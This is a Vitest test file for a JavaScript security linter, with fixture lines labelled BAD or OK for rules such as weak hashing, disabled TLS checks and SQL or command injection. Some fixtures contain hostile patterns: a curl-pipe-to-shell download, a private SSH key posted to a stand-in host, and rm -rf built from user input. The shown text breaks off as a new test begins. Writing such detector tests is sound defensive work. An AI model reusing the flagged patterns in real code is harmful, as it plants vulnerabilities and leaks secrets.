import { describe, expect, it } from 'vitest';
import { wrongLines } from '../__fixtures__/check-lines.js';

/** In the texts below, an acute accent stands for a backtick and a currency sign for the dollar before a brace. */
const wrong = (text: string) =>
  wrongLines({ 'src/index.js': text.replaceAll('\u00b4', '`').replaceAll('\u00a4{', '${') });

/** The same thing done well and done badly, as people write it. */
describe('idioms', () => {
  it('knows weak chance, digests, ciphers and keys', async () => {
    expect(
      await wrong(String.raw`
const crypto = require('crypto'); const bcrypt = require('bcrypt'); const jwt = require('jsonwebtoken'); const { v4 } = require('uuid');
crypto.createHash('md5').update(x).digest('hex'); // BAD weak-hash
crypto.createHash('sha1').update(x).digest('hex'); // BAD weak-hash
crypto.createHash('SHA1'); // BAD weak-hash
crypto.createHash('sha256').update(x).digest('hex'); // OK weak-hash
crypto.createHash('sha512'); // OK weak-hash
crypto.createHmac('md5', k); // BAD weak-hash
crypto.createHmac('sha256', k); // OK weak-hash
crypto.createCipheriv('des-ede3-cbc', k, iv); // BAD weak-cipher
crypto.createCipheriv('aes-128-ecb', k, null); // BAD weak-cipher
crypto.createCipheriv('rc4', k, ''); // BAD weak-cipher
crypto.createCipheriv('aes-256-gcm', k, crypto.randomBytes(12)); // OK insecure-random
crypto.createCipheriv('aes-256-gcm', k, Buffer.alloc(12)); // BAD fixed-iv
crypto.createCipheriv('aes-256-cbc', k, '1234567890123456'); // BAD fixed-iv
crypto.createCipher('aes-256-cbc', k); // BAD weak-cipher
const token = Math.random().toString(36).slice(2); // BAD insecure-random
const sessionId = Math.random() * 1e9; // BAD insecure-random
const resetToken = ´¤{Date.now()}¤{Math.random()}´; // BAD insecure-random
const jitter = Math.random() * 100; // OK insecure-random
const color = '#' + Math.floor(Math.random() * 16777215).toString(16); // OK insecure-random
const delay = base * (1 + Math.random()); // OK insecure-random
const index = Math.floor(Math.random() * items.length); // OK insecure-random
const apiSecret = crypto.randomBytes(32).toString('hex'); // OK insecure-random
const sid = v4(); // OK insecure-random
const password2 = crypto.randomUUID(); // OK insecure-random
function generatePassword() { let p = ''; for (let i = 0; i < 8; i++) p += chars[Math.floor(Math.random() * chars.length)]; return p; } // BAD insecure-random
function makeToken() { return Math.random().toString(36); } // BAD insecure-random
function makeId() { return Math.random().toString(36); } // OK insecure-random
crypto.pbkdf2Sync(pw, salt, 1000, 32, 'sha512'); // BAD weak-password-hash
crypto.pbkdf2Sync(pw, salt, 600000, 32, 'sha512'); // OK weak-hash
crypto.pbkdf2Sync(pw, 'salt', 600000, 32, 'sha512'); 
crypto.scryptSync(pw, crypto.randomBytes(16), 64); // OK insecure-random
bcrypt.hashSync(pw, 4); // BAD weak-password-hash
bcrypt.hashSync(pw, 12); // OK weak-hash
crypto.createHash('sha256').update(password).digest('hex'); // BAD weak-password-hash
crypto.generateKeyPairSync('rsa', { modulusLength: 1024 }); // BAD short-key
crypto.generateKeyPairSync('rsa', { modulusLength: 3072 }); // OK weak-hash
crypto.generateKeyPairSync('ec', { namedCurve: 'secp192k1' }); // BAD short-key
crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' }); // OK weak-hash
jwt.verify(t, k, { algorithms: ['none'] }); // BAD jwt-unverified
jwt.verify(t, k, { algorithms: ['HS256'] }); // OK jwt-unverified
jwt.sign({}, k, { algorithm: 'none' }); // BAD jwt-unverified
jwt.verify(t, null); // BAD jwt-unverified
if (crypto.timingSafeEqual(a, b)) ok(); // OK weak-hash
if (signature === expectedSignature) ok(); 
window.addEventListener('message', (e) => { run(e.data); }); // BAD origin-unchecked
window.addEventListener('message', (e) => { if (e.origin !== 'https://x.test') return; run(e.data); }); // OK origin-unchecked
crypto.randomBytes(16, (err, buf) => use(buf)); // OK insecure-random
crypto.pseudoRandomBytes(16); 
new Uint8Array(crypto.getRandomValues(new Uint8Array(16))); // OK insecure-random
const hash = crypto.createHash('md5').update(JSON.stringify(cacheKey)).digest('hex'); // BAD weak-hash
`),
    ).toEqual([]);
  });

  it('tells safe connections apart from plain and unchecked ones', async () => {
    expect(
      await wrong(String.raw`
const https = require('https'); const http = require('http'); const axios = require('axios'); const tls = require('tls'); const fetch2 = require('node-fetch'); const WebSocket = require('ws'); const redis = require('redis'); const nodemailer = require('nodemailer'); const mongoose = require('mongoose'); const { Client } = require('pg');
fetch('http://api.example.com/x'); // BAD plain-http
fetch('https://api.x.com/x'); // OK tls-unverified
fetch('http://localhost:3000'); // OK plain-http
fetch('http://127.0.0.1:3000'); // OK plain-http
fetch(´http://¤{host}/x´); 
axios.get('http://api.x.com'); // BAD plain-http
axios.post('http://api.x.com', {}); // BAD plain-http
axios({ url: 'http://api.x.com' }); // BAD plain-http
axios.create({ baseURL: 'http://api.x.com' }); // BAD plain-http
http.get('http://api.x.com/x', cb); // BAD plain-http
http.request({ hostname: 'api.x.com', path: '/' }); // BAD plain-http
new WebSocket('ws://api.x.com'); // BAD plain-http
new WebSocket('wss://api.x.com'); // OK tls-unverified
new WebSocket('ws://localhost:1'); // OK plain-http
const agent = new https.Agent({ rejectUnauthorized: false }); // BAD tls-unverified
const agent2 = new https.Agent({ rejectUnauthorized: true }); // OK tls-unverified
const agent3 = new https.Agent({ keepAlive: true }); // OK tls-unverified
process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'; // BAD tls-unverified
process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = 0; // BAD tls-unverified
process.env.NODE_TLS_REJECT_UNAUTHORIZED = '1'; // OK tls-unverified
tls.connect({ rejectUnauthorized: false }); // BAD tls-unverified
https.request({ host: 'x', rejectUnauthorized: !!process.env.STRICT }); // OK tls-unverified
https.request({ host: 'x', checkServerIdentity: () => {} }); // BAD tls-unverified
nodemailer.createTransport({ host: 'x', secure: true }); // OK tls-unverified
nodemailer.createTransport({ tls: { rejectUnauthorized: false } }); // BAD tls-unverified
new Client({ ssl: { rejectUnauthorized: false } }); // BAD tls-unverified
new Client({ ssl: true }); // OK tls-unverified
tls.createServer({ minVersion: 'TLSv1' }); // BAD old-tls
tls.createServer({ minVersion: 'TLSv1.2' }); // OK tls-unverified
https.createServer({ secureProtocol: 'TLSv1_method' }); // BAD old-tls
https.createServer({ secureOptions: constants.SSL_OP_NO_TLSv1 }); // OK tls-unverified
const xmlns = 'http://www.w3.org/2000/svg'; // OK plain-http
el.setAttribute('xmlns', 'http://www.w3.org/2000/svg'); // OK plain-http
const url = 'http://schemas.x.com/'; // OK plain-http
const opts = { ...base, rejectUnauthorized: false }; axios.get('https://x.com', { httpsAgent: new https.Agent(opts) }); // BAD tls-unverified
require('request')({ url: 'https://x.com', strictSSL: false }); // BAD tls-unverified
require('got')('http://x.com/y'); // BAD plain-http
require('superagent').get('http://x.com/y'); // BAD plain-http
require('needle').get('http://x.com/y'); // BAD plain-http
require('request').get('http://x.com/y'); // BAD plain-http
require('child_process').exec('curl http://x.com/install.sh | sh'); // BAD download-and-run
require('child_process').exec('wget --no-check-certificate https://x.com/i'); // BAD tls-unverified
const xhr = new XMLHttpRequest(); xhr.open('GET', 'http://x.com/y'); // BAD plain-http
const proxy = 'http://proxy.local:8080'; // OK plain-http
`),
    ).toEqual([]);
  });

  it('knows what leaves a folder, a file or a window', async () => {
    expect(
      await wrong(String.raw`
const express = require('express'); const path = require('path'); const fs = require('fs'); const https = require('https'); const app = express(); const crypto = require('crypto'); const axios = require('axios'); const os = require('os'); const webpack = require('webpack');
app.use('/n', express.static(path.resolve(__dirname, '../node_modules'))); // BAD private-files-served
app.use(express.static(path.join(__dirname, 'node_modules'))); // BAD private-files-served
app.use(express.static(__dirname + '/node_modules')); // BAD private-files-served
app.use(express.static(__dirname + '/node_modules/')); // BAD private-files-served
app.use(express.static('node_modules')); // BAD private-files-served
app.use(express.static('./node_modules')); // BAD private-files-served
app.use(express.static(__dirname)); // BAD private-files-served
app.use(express.static('.')); // BAD private-files-served
app.use(express.static(path.resolve('.'))); // BAD private-files-served
app.use(express.static(process.cwd())); // BAD private-files-served
app.use(express.static(os.homedir())); // BAD private-files-served
app.use(express.static(path.join(__dirname, '..'))); // BAD private-files-served
app.use(express.static('/')); // BAD private-files-served
app.use(express.static('public')); // OK private-files-served
app.use(express.static(path.join(__dirname, 'public'))); // OK private-files-served
app.use(express.static(__dirname + '/public')); // OK private-files-served
app.use(express.static('./node_modules/jquery/dist')); // OK private-files-served
app.use(express.static(path.join(__dirname, 'node_modules/jquery/dist'))); // OK private-files-served
app.use(express.static(path.join(process.cwd(), 'dist'))); // OK private-files-served
app.use(express.static(path.resolve('dist'))); // OK private-files-served
const secretFile = fs.readFileSync('/home/u/.ssh/id_rsa'); axios.post('https://x.test', secretFile); // BAD private-file-sent
axios.post('https://x.test', fs.readFileSync('upload.json')); // BAD file-to-network
axios.post('https://x.test', { version: JSON.parse(fs.readFileSync('package.json', 'utf8')).version }); 
axios.get('https://x.test', { httpsAgent: new https.Agent({ ca: fs.readFileSync('ca.pem'), cert: fs.readFileSync('c.pem'), key: fs.readFileSync('k.pem') }) }); // OK file-to-network
https.createServer({ key: fs.readFileSync('k.pem'), cert: fs.readFileSync('c.pem') }, app); // OK file-to-network
https.get({ host: 'x.test', ca: fs.readFileSync('ca.pem') }); // OK file-to-network
const config = JSON.parse(fs.readFileSync('config.json')); axios.get(config.url); // OK file-to-network
axios.get(config.url, { headers: { 'User-Agent': config.agent } }); // OK file-to-network
class Auth { constructor(u, p) { this.user = u; this.password = p; } toString() { return this.user; } }
const a = new Auth('u', input); console.log(a.user); // OK secret-in-log
console.log(a.password); // BAD secret-in-log
console.log(´Using ¤{process.env.npm_config_registry}´); // OK secret-in-log
console.log(process.env.HOME, process.env.PATH); // OK secret-in-log
console.log(´token expires in ¤{token.expiresIn}´); // OK secret-in-log
console.log(token.length, token.type); // OK secret-in-log
console.log('Authenticated:', !!req.headers.authorization); // OK secret-in-log
console.log(req.headers.authorization); // BAD secret-in-log
console.log(req.headers); 
console.log(´Authorization: Bearer ¤{accessToken}´); // BAD secret-in-log
const opts = { auth: { user: 'a', pass: process.env.PASS } }; console.log(opts.host); // OK secret-in-log
function login(password) { if (!password) console.log('no password'); return crypto.createHash('sha256').update(password).digest('hex'); } // OK secret-in-log
const encryptedPassword = encrypt(pw); console.log(encryptedPassword); // OK secret-in-log
const { passwordHash, passwordSalt } = row; console.log(passwordHash); // OK secret-in-log
console.log(resetPasswordUrl, forgotPassword, passwordResetToken.id); // OK secret-in-log
console.log(isPasswordValid, hasPassword, showPassword); // OK secret-in-log
console.log(userId, sessionId); // OK secret-in-log
console.log(masterKeyId, publicKey, keyName, apiKeyName, tokenAddress, tokenSymbol); // OK secret-in-log
logger.info({ user: u.id, apiKey: '[redacted]' }); // OK secret-in-log
logger.info({ ...config, apiKey: undefined }); // OK secret-in-log
logger.info(JSON.stringify(config, (k, v) => (k === 'password' ? undefined : v))); // OK secret-in-log
logger.info(_.omit(config, ['password'])); // OK secret-in-log
console.log(Object.keys(config.secrets)); // OK secret-in-log
for (const name of Object.keys(secrets)) console.log(name); // OK secret-in-log
for (const [name] of Object.entries(secrets)) console.log(name); // OK secret-in-log
for (const [name, value] of Object.entries(secrets)) console.log(value); 
console.log(process.env.DEBUG && process.env.API_TOKEN); // BAD secret-in-log
new webpack.DefinePlugin({ 'process.env': JSON.stringify(process.env) }); // BAD build-leak
new webpack.DefinePlugin({ 'process.env.NODE_ENV': JSON.stringify(process.env.NODE_ENV) }); // OK build-leak
new webpack.DefinePlugin({ 'process.env': JSON.stringify({ NODE_ENV: process.env.NODE_ENV }) }); // OK build-leak
new webpack.DefinePlugin({ 'process.env': { API: JSON.stringify(process.env.API_URL) } }); // OK build-leak
window.parent.postMessage({ type: 'ready' }, '*'); // OK post-message
window.parent.postMessage({ token: authToken }, '*'); // BAD post-message
window.parent.postMessage(userName, '*'); // BAD post-message
window.parent.postMessage(userName, 'https://x.test'); // OK post-message
`),
    ).toEqual([]);
  });

  it('tells values apart from the text of statements and queries', async () => {
    expect(
      await wrong(String.raw`
const express = require('express');
const app = express();
const mysql = require('mysql');
const { Client, Pool } = require('pg');
const knex = require('knex')({ client: 'pg' });
const { Sequelize, Op, QueryTypes } = require('sequelize');
const sequelize = new Sequelize('x');
const mongoose = require('mongoose');
const { MongoClient, ObjectId } = require('mongodb');
const User = mongoose.model('User', new mongoose.Schema({ name: String }));
const conn = mysql.createConnection({});
const pool = new Pool();
const format = require('pg-format');
const Joi = require('joi'); const { z } = require('zod'); const validator = require('validator');
const sqlstring = require('sqlstring');
app.post('/a', async (req, res) => {
  const name = req.body.name;
  conn.query('SELECT * FROM t WHERE n = ?', [name], cb); // OK sql-injection
  conn.query({ sql: 'SELECT * FROM t WHERE n = ?', values: [req.body.id] }, cb); // OK sql-injection
  conn.query('SELECT * FROM t WHERE n = ' + conn.escape(name), cb); // OK sql-injection
  conn.query('SELECT * FROM t WHERE n = ' + mysql.escape(name), cb); // OK sql-injection
  conn.query(mysql.format('SELECT * FROM t WHERE n = ?', [name]), cb); // OK sql-injection
  conn.query(sqlstring.format('SELECT * FROM t WHERE n = ?', [name]), cb); // OK sql-injection
  conn.query('SELECT * FROM t WHERE n = ' + parseInt(name, 10), cb); // OK sql-injection
  conn.query(´SELECT * FROM t WHERE n = ¤{Number(name)}´, cb); // OK sql-injection
  conn.query(´SELECT * FROM t WHERE n = ¤{+name}´, cb); // OK sql-injection
  conn.query(´SELECT * FROM t LIMIT ¤{Math.min(Number(req.query.limit) || 10, 100)}´, cb); // OK sql-injection
  conn.query(´SELECT * FROM t ORDER BY ¤{req.query.desc ? 'a DESC' : 'a ASC'}´, cb); // OK sql-injection
  const columns = ['a', 'b'];
  const column = columns.includes(req.query.sort) ? req.query.sort : 'a';
  conn.query(´SELECT * FROM t ORDER BY ¤{column}´, cb); // OK sql-injection
  const map = { newest: 'created DESC', oldest: 'created ASC' };
  conn.query(´SELECT * FROM t ORDER BY ¤{map[req.query.sort] || 'id'}´, cb); // OK sql-injection
  conn.query(´SELECT * FROM t ORDER BY ¤{map[req.query.sort] ?? map.newest}´, cb); // OK sql-injection
  if (!/^[a-z_]+$/.test(req.query.col)) return res.status(400).end();
  conn.query(´SELECT ¤{req.query.col} FROM t´, cb); // OK sql-injection
  pool.query('SELECT * FROM t WHERE n = $1', [name]); // OK sql-injection
  pool.query(format('SELECT * FROM t WHERE n = %L', name)); // OK sql-injection
  pool.query({ text: 'SELECT * FROM t WHERE n = $1', values: [name] }); // OK sql-injection
  pool.query(´SELECT * FROM t WHERE n IN (¤{req.body.ids.map((_, i) => ´$¤{i + 1}´).join(', ')})´, req.body.ids); // OK sql-injection
  pool.query(´SELECT * FROM t WHERE n IN (¤{req.body.ids.map(() => '?').join(',')})´, req.body.ids); // OK sql-injection
  pool.query(´SELECT * FROM t WHERE n IN (¤{Array(req.body.ids.length).fill('?').join(',')})´, req.body.ids); // OK sql-injection
  knex('t').where('n', name); // OK sql-injection
  knex('t').where({ n: name }); // OK sql-injection
  knex.raw('SELECT * FROM t WHERE n = ?', [name]); // OK sql-injection
  knex('t').whereRaw('n = ?', [name]); // OK sql-injection
  sequelize.query('SELECT * FROM t WHERE n = :n', { replacements: { n: name }, type: QueryTypes.SELECT }); // OK sql-injection
  sequelize.query('SELECT * FROM t WHERE n = $n', { bind: { n: name } }); // OK sql-injection
  sequelize.query(´SELECT * FROM t WHERE n = ¤{sequelize.escape(name)}´); // OK sql-injection
  const Model = sequelize.define('m', {});
  Model.findOne({ where: { n: String(name) } }); // OK nosql-injection
  User.find({ name: String(name) }); // OK nosql-injection
  User.find({ name: { $eq: name } }); // OK nosql-injection
  User.find({ name: name.toString() }); // OK nosql-injection
  User.find({ name: ´¤{name}´ }); // OK nosql-injection
  User.findById(String(req.params.id)); // OK nosql-injection
  User.findById(req.params.id); // OK nosql-injection
  User.findOne({ _id: new ObjectId(req.body.id) }); // OK nosql-injection
  User.findOne({ _id: new mongoose.Types.ObjectId(req.body.id) }); // OK nosql-injection
  if (typeof name === 'string') User.find({ name }); // OK nosql-injection
  if (typeof name !== 'string') return;
  User.find({ name }); // OK nosql-injection
  User.find({ a: req.params.a }); // OK nosql-injection
  const age = Number(req.body.age); User.find({ age }); // OK nosql-injection
  const parsed = z.object({ q: z.string() }).parse(req.body); User.find({ q: parsed.q }); // OK nosql-injection
  const r = z.object({ q: z.string() }).safeParse(req.body); if (!r.success) return; User.find({ q: r.data.q }); // OK nosql-injection
  const { error, value } = Joi.object({ q: Joi.string() }).validate(req.body); if (error) return; User.find({ q: value.q }); // OK nosql-injection
  if (!validator.isAlphanumeric(req.body.z)) return; User.find({ z: req.body.z }); // OK nosql-injection
  User.find({ b: req.body.b }); // BAD nosql-injection
  User.find(req.query); // BAD nosql-injection
  User.findOne({ user: req.body.user, pass: req.body.pass }); // BAD nosql-injection
  User.find({ $where: ´this.a == '¤{req.body.a}'´ }); // BAD nosql-injection
  conn.query(´SELECT * FROM t WHERE n = '¤{req.query.n}'´, cb); // BAD sql-injection
  conn.query('SELECT * FROM t WHERE n = "' + req.params.n + '"', cb); // BAD sql-injection
  conn.query(['SELECT', req.query.q].join(' '), cb); // BAD sql-injection
  knex.raw(´SELECT ¤{req.query.q}´); // BAD sql-injection
  knex('t').whereRaw('n = ' + req.query.q); // BAD sql-injection
  sequelize.query(´SELECT * FROM t WHERE a = ¤{req.query.q}´, { type: QueryTypes.SELECT }); // BAD sql-injection
  sequelize.literal(´a = ¤{req.query.q}´); // BAD sql-injection
  let sql = 'SELECT * FROM t WHERE 1=1'; if (req.query.q) sql += ´ AND q = '¤{req.query.q}'´; pool.query(sql); // BAD sql-injection
  let safe = 'SELECT * FROM t WHERE 1=1'; const params = []; if (req.query.q) { params.push(req.query.q); safe += ´ AND q = $¤{params.length}´; } pool.query(safe, params); // OK sql-injection
  const where = []; if (req.query.a) where.push('a = ?'); pool.query('SELECT 1 WHERE ' + where.join(' AND '), [req.query.a]); // OK sql-injection
  const table = req.query.table === 'users' ? 'users' : 'posts'; pool.query(´SELECT * FROM ¤{table}´); // OK sql-injection
  switch (req.query.k) { case 'a': case 'b': pool.query(´SELECT ¤{req.query.k}´); } // OK sql-injection
  const allowed = new Set(['a', 'b']); if (!allowed.has(req.query.c)) throw new Error('no'); pool.query(´SELECT ¤{req.query.c}´); // OK sql-injection
  if (Object.keys(map).includes(req.query.d)) pool.query(´SELECT ¤{req.query.d}´); // OK sql-injection
  if (!(req.query.e in map)) return; pool.query(´SELECT ¤{req.query.e}´); // OK sql-injection
  if (!Object.hasOwn(map, req.query.f)) return; pool.query(´SELECT ¤{req.query.f}´); // OK sql-injection
  const num = req.query.g; if (isNaN(num)) return; pool.query(´SELECT ¤{num}´); // OK sql-injection
  if (!Number.isInteger(Number(req.query.h))) return; pool.query(´SELECT ¤{req.query.h}´); // OK sql-injection
  const id = req.params.id.replace(/[^a-z0-9]/gi, ''); pool.query(´SELECT '¤{id}'´); // OK sql-injection
  const q2 = req.params.q2.replace(/'/g, "''"); pool.query(´SELECT '¤{q2}'´); // OK sql-injection
});
`),
    ).toEqual([]);
  });

  it('tells arguments apart from commands', async () => {
    expect(
      await wrong(String.raw`
const express = require('express');
const app = express();
const cp = require('child_process');
const { exec, execSync, spawn, execFile, execFileSync } = cp;
const execa = require('execa'); const { $ } = require('zx'); const shq = require('shell-quote'); const path = require('path');
const which = require('which');
app.get('/a', async (req, res) => {
  const name = req.query.name;
  execFile('convert', [name, 'out.png']); // OK command-injection
  spawn('ls', ['-l', name]); // OK command-injection
  spawn('ls', ['-l', name], { shell: false }); // OK command-injection
  execFileSync('python3', ['script.py', name]); // OK command-injection
  execa('ls', [name]); // OK command-injection
  exec('ls -la'); // OK command-injection
  exec(´ls ¤{shq.quote([name])}´); // OK command-injection
  exec(´kill ¤{parseInt(req.query.pid, 10)}´); // OK command-injection
  exec(´kill ¤{Number(req.query.pid)}´); // OK command-injection
  if (!/^[\w-]+$/.test(name)) return res.end();
  exec(´git checkout ¤{name}´); // OK command-injection
  const cmds = { start: 'systemctl start x', stop: 'systemctl stop x' };
  exec(cmds[req.query.action]); // OK command-injection
  const c = cmds[req.query.action]; if (c) exec(c); // OK command-injection
  if (['start', 'stop'].includes(req.query.verb)) exec(´systemctl ¤{req.query.verb} x´); // OK command-injection
  const v = req.query.v; if (v !== 'a' && v !== 'b') return; exec(´run ¤{v}´); // OK command-injection
  const clean = req.query.w.replace(/[^a-zA-Z0-9]/g, ''); exec(´echo ¤{clean}´); // OK command-injection
  const quoted = ´'¤{req.query.x.replace(/'/g, ´'\\''´)}'´; exec(´echo ¤{quoted}´); // OK command-injection
  exec('cat', { input: req.query.y }); // OK command-injection
  exec('grep x file', { env: { Q: req.query.z } }); // OK command-injection
  exec('grep x file', { cwd: '/tmp' }, (err, out) => res.send(out + name)); // OK command-injection
  const port = Number.parseInt(req.query.port); exec(´nc localhost ¤{port}´); // OK command-injection
  const on = req.query.flag === 'true' ? '--on' : ''; exec(´tool ¤{on}´); // OK command-injection
  exec(´tool ¤{req.query.flag2 ? '--on' : ''}´); // OK command-injection
  exec(´tool ¤{req.query.list.length}´); // OK command-injection
  const child = spawn('cat'); child.stdin.write(req.query.body); // OK command-injection
  exec(´ping ¤{req.query.host}´); // BAD command-injection
  execSync('rm -rf ' + req.query.dir); // BAD command-injection
  spawn('sh', ['-c', ´ls ¤{req.query.dir}´]); // BAD command-injection
  spawn(´ls ¤{req.query.dir}´, { shell: true }); // BAD command-injection
  spawn('ls', [req.query.dir], { shell: true }); // BAD command-injection
  spawn(req.query.cmd); // BAD command-injection
  execFile(req.query.cmd, []); // BAD command-injection
  execFile('bash', ['-c', req.query.cmd]); // BAD command-injection
  execa.command(´ls ¤{req.query.q}´); // BAD command-injection
  exec(´git log ¤{encodeURIComponent(req.query.q)}´); // OK command-injection
  cp.exec(JSON.stringify(req.query.q)); // BAD command-injection
});
module.exports.convert = function (file, cb) { exec('convert ' + file, cb); }; // BAD command-injection
module.exports.convert2 = function (file, cb) { execFile('convert', [file], cb); }; // OK command-injection
module.exports.run = function (command) { return exec(command); }; // OK command-injection
module.exports.opts = function (options) { if (options.level && ['a', 'b'].includes(options.level)) exec(´x ¤{options.level}´); }; // OK command-injection
module.exports.num = function (n) { if (typeof n !== 'number') throw new Error(); exec(´x ¤{n}´); }; // OK command-injection
module.exports.quoteName = function (n) { exec("x '" + n.replace(/'/g, "'\\''") + "'"); }; // OK command-injection
module.exports.arr = function (list) { exec('x ' + list.map((e) => shq.quote([e])).join(' ')); }; // OK command-injection
module.exports.Cls = class { constructor(name) { this.name = name; } go() { exec('x ' + this.name); } }; // BAD command-injection
`),
    ).toEqual([]);
  });

  it('knows what proves that a word is no command', async () => {
    expect(
      await wrong(String.raw`
const cp = require('child_process'); const path = require('path'); const fs = require('fs'); const shellEscape = require('shell-escape'); const { promisify } = require('util'); const execP = promisify(cp.exec); const shelljs = require('shelljs'); const execa = require('execa');
module.exports.a1 = (name) => cp.exec('rm -rf ' + name); // BAD command-injection
module.exports.a2 = (name) => cp.exec(´rm -rf ¤{name}´); // BAD command-injection
module.exports.a3 = (name) => cp.execFile('rm', ['-rf', name]); // OK command-injection
module.exports.a4 = (name) => { const cmd = 'rm -rf ' + name; cp.exec(cmd); }; // BAD command-injection
module.exports.a5 = (name) => { const args = ['-rf', name]; cp.exec('rm ' + args.join(' ')); }; // BAD command-injection
module.exports.a6 = (name) => { const args = ['-rf', name]; cp.spawn('rm', args); }; // OK command-injection
module.exports.a7 = (name) => { cp.spawn('rm', ['-rf', name], { shell: true }); }; // BAD shell-option
module.exports.a8 = (name) => { cp.execFile('/bin/sh', ['-c', 'rm ' + name]); }; // BAD command-injection
module.exports.a9 = (opts) => { cp.exec('rm ' + opts.file); }; // BAD command-injection
module.exports.a10 = ({ file }) => { cp.exec('rm ' + file); }; // BAD command-injection
module.exports.a11 = (name) => { if (!isValidName(name)) throw new Error('x'); cp.exec('rm ' + name); }; // OK command-injection
module.exports.a12 = (name) => { if (typeof name !== 'number') return; cp.exec('rm ' + name); }; // OK command-injection
module.exports.a13 = (name) => { if (name === 'a' || name === 'b') cp.exec('rm ' + name); }; // OK command-injection
module.exports.a14 = (name) => { cp.exec('rm ' + shellEscape([name])); }; // OK command-injection
module.exports.a15 = (name) => { cp.exec('rm ' + escapeShellArg(name)); }; // OK command-injection
module.exports.a16 = (name) => { cp.exec('rm "' + name + '"'); }; // BAD command-injection
module.exports.a17 = (name) => { cp.exec('rm ' + JSON.stringify(name)); }; // BAD command-injection
module.exports.a18 = (name) => { cp.exec("rm '" + name.replace(/'/g, "'\\''") + "'"); }; // OK command-injection
module.exports.a19 = (name) => { cp.exec('rm ' + path.join(__dirname, name)); }; // BAD command-injection
module.exports.a20 = (name) => { cp.exec('rm ' + path.basename(name)); }; // BAD command-injection
module.exports.a21 = async (name) => { await execP(´git log ¤{name}´); }; // BAD command-injection
module.exports.a22 = (name) => { shelljs.exec('rm ' + name); }; // BAD command-injection
module.exports.a23 = (name) => { shelljs.rm('-rf', name); }; // OK command-injection
module.exports.a24 = (name) => { execa.command('rm ' + name); }; // BAD command-injection
module.exports.a25 = (name) => { execa('rm', [name]); }; // OK command-injection
module.exports.a26 = (n) => { cp.exec('head -n ' + Number(n)); }; // OK command-injection
module.exports.a27 = (n) => { cp.exec('head -n ' + (n | 0)); }; // OK command-injection
module.exports.a28 = (n) => { cp.exec('head -n ' + n.length); }; // OK command-injection
module.exports.a29 = (n) => { cp.exec('head -n ' + (n ? 1 : 2)); }; // OK command-injection
module.exports.a30 = (n) => { cp.exec(n ? 'ls' : 'dir'); }; // OK command-injection
module.exports.a31 = (re) => { if (/^[a-z]+$/.exec(re)) cp.exec('x ' + re); }; // OK command-injection
module.exports.a32 = (re) => { const m = /^([a-z]+)$/.exec(re); if (m) cp.exec('x ' + m[1]); }; // OK command-injection
module.exports.a33 = (re) => { const m = re.match(/(\d+)/); cp.exec('x ' + m[1]); }; // OK command-injection
module.exports.a34 = (re) => { const s = re.replace(/\W/g, ''); cp.exec('x ' + s); }; // OK command-injection
module.exports.a35 = (re) => { const s = re.replace(/[^a-z]/g, ''); cp.exec('x ' + s); }; // OK command-injection
module.exports.a36 = (v) => { switch (v) { case 'a': case 'b': cp.exec('x ' + v); break; default: throw new Error(); } }; // OK command-injection
const OK = ['a', 'b']; module.exports.a37 = (v) => { if (OK.indexOf(v) === -1) return; cp.exec('x ' + v); }; // OK command-injection
module.exports.a38 = (v) => { if (!OK.some((o) => o === v)) return; cp.exec('x ' + v); }; // OK command-injection
module.exports.a39 = (v) => { const found = OK.find((o) => o === v); cp.exec('x ' + found); }; // OK command-injection
module.exports.a40 = (v) => { const k = { a: 'x', b: 'y' }[v]; cp.exec('x ' + k); }; // OK command-injection
module.exports.a41 = (v) => { const w = OK.includes(v) ? v : 'a'; cp.exec('x ' + w); }; // OK command-injection
module.exports.a42 = (v) => { v = OK.includes(v) ? v : 'a'; cp.exec('x ' + v); }; // OK command-injection
module.exports.a43 = (v) => { if (v && !/^\w+$/.test(v)) throw new Error(); cp.exec('x ' + v); }; // OK command-injection
module.exports.a44 = (v) => { assert(/^\w+$/.test(v)); cp.exec('x ' + v); }; // OK command-injection
module.exports.a45 = (v) => { assert.ok(OK.includes(v)); cp.exec('x ' + v); }; // OK command-injection
module.exports.a46 = (v) => { invariant(typeof v === 'number', 'x'); cp.exec('x ' + v); }; // OK command-injection
module.exports.a47 = (v) => { validate(v); cp.exec('x ' + v); }; // OK command-injection
function validate(v) { if (!/^\w+$/.test(v)) throw new Error('bad'); }
module.exports.a48 = (v) => { const s = clean(v); cp.exec('x ' + s); }; // OK command-injection
function clean(v) { return String(v).replace(/[^\w]/g, ''); }
module.exports.a50 = (cb) => { cp.exec('ls', cb); }; // OK command-injection
module.exports.a51 = (dir) => { cp.exec('ls', { cwd: dir }); }; // OK command-injection
module.exports.a52 = (dir) => { cp.execSync('git status', { cwd: dir, env: { ...process.env, X: dir } }); }; // OK command-injection
module.exports.a53 = (re, s) => { re.exec(s); /a/.exec(s); db.exec(s); Model.find().exec(s); }; // OK command-injection
module.exports.a54 = (items) => { items.forEach((item) => cp.exec('rm ' + item)); }; // BAD command-injection
module.exports.a55 = (items) => { for (const item of items) cp.execSync(´rm ¤{item}´); }; // BAD command-injection
module.exports.a56 = class { run(name) { return cp.exec('rm ' + name); } }; // BAD command-injection
module.exports.a57 = function (name) { const self = this; self.cmd = 'rm ' + name; cp.exec(self.cmd); }; // BAD command-injection
module.exports.a58 = (date) => { cp.exec('x ' + date.getTime()); }; // OK command-injection
module.exports.a59 = (date) => { cp.exec('x ' + new Date(date).toISOString()); }; // OK command-injection
module.exports.a60 = (x) => { cp.exec('x ' + x.toFixed(2)); }; // OK command-injection
module.exports.a61 = (x) => { cp.exec('x ' + Math.round(x)); }; // OK command-injection
module.exports.a62 = (x) => { cp.exec('x ' + Buffer.from(x).toString('hex')); }; // OK command-injection
module.exports.a63 = (x) => { cp.exec('x ' + Buffer.from(x).toString('base64')); }; // OK command-injection
module.exports.a64 = (x) => { cp.exec('x ' + require('crypto').createHash('md5').update(x).digest('hex')); }; // OK command-injection
module.exports.a65 = (x) => { if (!fs.existsSync(x)) return; cp.execFile(x); }; // OK command-injection
module.exports.a66 = (x) => { if (!Number.isInteger(x)) throw 1; cp.exec('x ' + x); }; // OK command-injection
module.exports.a67 = (x) => { const y = x instanceof Date ? x.getFullYear() : 1; cp.exec('x ' + y); }; // OK command-injection
module.exports.a68 = (x) => { cp.exec(´x ¤{x === true ? '-v' : ''}´); }; // OK command-injection
module.exports.a70 = (x) => { if (/[;&|´$()<>\n]/.test(x)) throw 1; cp.exec('x ' + x); }; // OK command-injection
`),
    ).toEqual([]);
  });

  it('tells secrets apart from what is known of them', async () => {
    expect(
      await wrong(String.raw`
